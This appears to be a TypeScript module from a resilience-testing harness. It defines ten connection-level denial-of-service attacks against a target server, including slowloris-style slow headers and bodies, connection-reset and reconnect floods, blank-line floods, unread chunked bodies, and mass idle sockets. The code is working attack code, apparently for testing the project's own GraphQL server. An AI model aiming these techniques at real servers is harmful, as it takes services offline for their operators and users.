import { once } from 'node:events'
import type { Socket } from 'node:net'
import { setImmediate as nextTurn, setTimeout as sleep } from 'node:timers/promises'
import { type Attack, longTimeline, type Target } from '../attack.ts'
import { flood, mostRequests } from '../flood.ts'
import { begin, sockets, textOf, write } from '../sockets.ts'

/** So many sockets that begin with one text and go on with another, again and again; never with a whole request. */
function drip(count: number, start: string, more: string, pause: number): Attack['prepare'] {
  return (target: Target) => ({
    strike: sockets(target, count, async (socket, until, tally) => {
      tally.answered += 1
      await write(socket, start)
      while (performance.now() < until && !socket.destroyed) {
        await sleep(pause)
        await write(socket, more)
      }
    }),
  })
}

/** Attacks by connections that are held. */
export const connectionAttacks: readonly Attack[] = [
  {
    row: '-',
    name: 'slow-headers',
    about: '300 sockets that send a header a second',
    prepare: drip(300, 'GET / HTTP/1.1\r\nhost: localhost\r\n', 'x-more: y\r\n', 1_000),
  },
  {
    row: '-',
    name: 'slow-bodies',
    about: '300 sockets that send a body of 250 KB at 1 KB/s, without a token',
    prepare: drip(
      300,
      'POST /graphql HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 250000\r\n\r\n{',
      ' '.repeat(200),
      200,
    ),
  },
  {
    row: '-',
    name: 'long-accept',
    about: '400 connections request a page that does not exist with 15 KB of accepted media types',
    prepare: (target) => {
      const headers = { accept: 'a/b;c=d,'.repeat(1_875) }
      return { strike: flood(target, 400, () => ({ method: 'GET', path: '/nothing', headers, body: null })) }
    },
  },
  {
    row: '-',
    name: 'reconnect',
    about: '200 clients that connect, request a page and disconnect, again and again',
    prepare: (target) => ({
      strike: sockets(target, 200, async (socket, _until, tally) => {
        tally.answered += 1
        await write(socket, 'GET / HTTP/1.1\r\nhost: localhost\r\n\r\n')
        socket.resume()
        await Promise.race([once(socket, 'data'), once(socket, 'close')])
      }),
    }),
  },
  {
    row: '-',
    name: 'reset',
    about:
      '200 clients that pipeline 2,000 requests for a page and reset the connection 30 to 60 ms later, again and again',
    prepare: (target) => ({
      strike: sockets(target, 200, async (socket, _until, tally) => {
        tally.answered += 1
        socket.resume()
        const written = write(socket, 'GET / HTTP/1.1\r\nhost: a\r\n\r\n'.repeat(2_000))
        await Promise.race([written, sleep(30)])
        await sleep(30)
        socket.resetAndDestroy()
        await written.catch(() => undefined)
      }),
    }),
  },
  {
    row: '-',
    name: 'blank-lines',
    about: '100 clients that send only blank lines',
    prepare: (target) => ({
      strike: sockets(target, 100, async (socket, until, tally) => {
        tally.answered += 1
        const lines = '\r\n\r\n'.repeat(16_384)
        while (performance.now() < until) await write(socket, lines)
      }),
    }),
  },
  {
    row: '-',
    name: 'blank-bodies',
    about: '8 clients that send bodies of 60 MB of blank lines, without a token',
    prepare: (target) => ({
      strike: sockets(target, 8, async (socket, until, tally) => {
        tally.answered += 1
        const headers = { 'content-type': 'application/json', 'content-length': '60000000' }
        await write(socket, textOf({ method: 'POST', path: '/graphql', headers, body: null }))
        const lines = '\r\n\r\n'.repeat(15_000)
        for (let sent = 0; sent < 1_000 && performance.now() < until; sent += 1) await write(socket, lines)
      }),
    }),
  },
  {
    row: '-',
    name: 'unread-bodies',
    about:
      '490 connections of an account read long timelines, each with a body of 65,500 chunks of one byte, and do not read the response',
    prepare: (target) => {
      const headers = { authorization: `Bearer ${target.token}`, 'transfer-encoding': 'chunked' }
      const path = `/graphql?query=${encodeURIComponent(longTimeline)}`
      const strike = sockets(target, 490, async (socket, until, tally) => {
        tally.answered += 1
        await write(socket, textOf({ method: 'GET', path, headers, body: null }))
        const chunks = '1\r\nx\r\n'.repeat(6_550)
        for (let sent = 0; sent < 10; sent += 1) await write(socket, chunks)
        await sleep(until - performance.now())
      })
      return { strike }
    },
  },
  {
    row: '-',
    name: 'new-connections',
    about: 'one client opens connections as fast as it can, and holds the last 1,000 of them',
    prepare: (target) => ({
      strike: async (until, tally) => {
        const held = Array<Socket | undefined>(1_000)
        for (let nth = 0; performance.now() < until && nth < mostRequests; nth += 1) {
          held[nth % held.length]?.destroy()
          held[nth % held.length] = begin(target)
          tally.answered += 1
          if (nth % 50 === 0) await nextTurn()
        }
        for (const socket of held) socket?.destroy()
        return undefined
      },
    }),
  },
  {
    row: '-',
    name: 'idle',
    about: '1,000 sockets that send nothing',
    prepare: (target) => ({
      strike: sockets(target, 1_000, async (socket, until, tally) => {
        tally.answered += 1
        while (performance.now() < until && !socket.destroyed) await sleep(200)
      }),
    }),
  },
]
